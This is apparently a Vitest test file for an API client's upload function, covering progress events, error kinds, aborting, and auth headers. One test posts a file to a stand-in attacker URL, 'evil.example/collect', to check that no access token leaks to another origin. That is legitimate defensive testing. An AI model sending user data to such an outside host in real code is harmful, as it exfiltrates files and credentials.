import { afterEach, beforeEach, describe, expect, test, vi } from 'vitest';
import { after, broken, createFakeServer, expired, never, reply, signedInSession } from '../../testing/index';
import type { ApiError } from '../errors/ApiError';
import { createClient } from './createClient';
import type { UploadProgress } from './sendForm';

beforeEach(() => void vi.useFakeTimers());
afterEach(() => void vi.useRealTimers());

function setUp() {
  const server = createFakeServer({
    'POST /sys/common/upload': after(400, reply({ id: 'f-1' }, { message: 'temp/a.png' })),
    'POST /expired': expired(),
    'POST /broken': broken(),
    'POST /never': never(),
  });
  const client = createClient({ session: signedInSession(), fetch: server.fetch, xhr: server.xhr });
  const file = new File(['0123456789'], 'a.png', { type: 'image/png' });
  return { server, client, file };
}

const failing = (call: Promise<unknown>) =>
  call.then(
    () => expect.unreachable('it should have failed'),
    (error: unknown) => error as ApiError,
  );

describe('an upload by XMLHttpRequest', () => {
  test('reports progress', async () => {
    const { server, client, file } = setUp();
    const progress: UploadProgress[] = [];
    const call = client.upload('/sys/common/upload', { file }, { onProgress: (step) => progress.push(step) });
    await vi.advanceTimersByTimeAsync(200);
    expect(progress.map(({ percent }) => percent)).toEqual([30, 50]);
    await vi.advanceTimersByTimeAsync(200);
    expect(progress.at(-1)).toEqual({ loaded: 10, total: 10, percent: 100 });
    await expect(call).resolves.toMatchObject({ message: 'temp/a.png', result: { id: 'f-1' } });
    expect(server.requests[0]!.headers).toMatchObject({ 'x-access-token': 'token-of-a-test', 'tenant-id': '0' });
  });

  test('rejects like any call', async () => {
    const { client, file } = setUp();
    for (const [path, kind] of [
      ['/expired', 'unauthorised'],
      ['/broken', 'network'],
      ['/nowhere', 'not-found'],
    ] as const) {
      const call = failing(client.upload(path, { file }));
      await vi.advanceTimersByTimeAsync(10);
      expect((await call).kind).toBe(kind);
    }
  });

  test('can be aborted and stops reporting progress', async () => {
    const { client, file } = setUp();
    const controller = new AbortController();
    const onProgress = vi.fn<(progress: UploadProgress) => void>();
    const call = failing(client.upload('/never', { file }, { signal: controller.signal, onProgress }));
    await vi.advanceTimersByTimeAsync(300);
    controller.abort();
    expect((await call).kind).toBe('aborted');
    const told = onProgress.mock.calls.length;
    await vi.advanceTimersByTimeAsync(2000);
    expect(onProgress).toHaveBeenCalledTimes(told);
  });

  test('sends no token to another origin', async () => {
    const { server, client, file } = setUp();
    const call = client.upload('https://evil.example/collect', { file }).catch(() => {});
    await vi.advanceTimersByTimeAsync(10);
    await call;
    expect(server.requests[0]!.path).toBe('/collect');
    expect(Object.keys(server.requests[0]!.headers)).toEqual(['accept']);
  });
});
